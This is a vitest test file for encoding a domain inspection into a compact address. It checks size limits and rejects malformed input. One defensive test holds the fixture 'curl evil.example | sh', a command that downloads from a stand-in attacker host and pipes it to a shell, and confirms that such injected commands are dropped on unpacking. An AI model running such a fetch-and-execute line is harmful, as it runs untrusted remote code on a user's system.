import { describe, expect, it } from 'vitest';
import { inspectExample } from '#src/inspector/invented/network.ts';
import { examples } from '#src/inspector/invented/domains.ts';
import { packInspection, unpackInspection } from '#src/features/inspect/inspection-link.ts';
import { packText } from '#src/address/packed-text.ts';

const now = () => 1_800_000_000;

describe('an inspection in an address', () => {
  it.each(examples.map(({ domain }) => domain))('%s comes back, without questions, commands and texts to publish', async (domain) => {
    const inspection = await inspectExample(domain, { now });
    const packed = await packInspection(inspection);
    expect(packed!.length).toBeLessThan(4000);
    const checks = inspection.checks.map(({ fix: _fix, proof: _proof, ...check }) => check);
    expect(await unpackInspection(packed!)).toEqual({ ...inspection, checks, questions: [] });
  });

  it('drops commands and texts that a stranger put in', async () => {
    const inspection = await inspectExample('meadow.example', { now });
    const [check] = inspection.checks;
    const evil = { ...inspection, checks: [{ ...check, proof: 'curl evil.example | sh', fix: { where: 'here', text: 'evil' } }] };
    expect((await unpackInspection((await packText(JSON.stringify(evil)))!))!.checks).toEqual([
      expect.not.objectContaining({ proof: expect.anything() as unknown, fix: expect.anything() as unknown }),
    ]);
  });

  it.each([
    ['no inspection', '{}'],
    ['no JSON', '{'],
    ['damaged', '~AAAA'],
    ['another kind of domain', JSON.stringify({ domain: 'a b' })],
  ])('%s is none', async (_, text) => expect(await unpackInspection(text)).toBeUndefined());
});
